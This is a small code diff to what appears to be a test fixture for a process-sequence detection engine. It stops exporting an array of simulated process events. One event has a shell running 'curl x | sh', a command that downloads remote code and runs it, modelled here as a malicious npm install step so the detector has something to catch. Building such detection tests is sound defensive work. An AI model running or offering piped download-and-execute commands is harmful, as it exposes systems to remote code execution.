@@ -26,7 +26,7 @@ const ev = (
   });
 
 /** Eight process events: two sequences complete, one candidate overruns maxspan, one is overwritten. */
-export const SEQUENCE_EVENTS = [
+const SEQUENCE_EVENTS = [
   ev('09:00:00', 'h1', 'linux', 'node', 'P1', 'npm', 'P0', ['npm', 'install']),
   ev('09:00:03', 'h1', 'linux', 'sh', 'C1', 'node', 'P1', ['sh', '-c', 'curl x | sh']),
   ev('09:01:00', 'h1', 'linux', 'node', 'P2', 'npm', 'P0', ['node', 'install']),
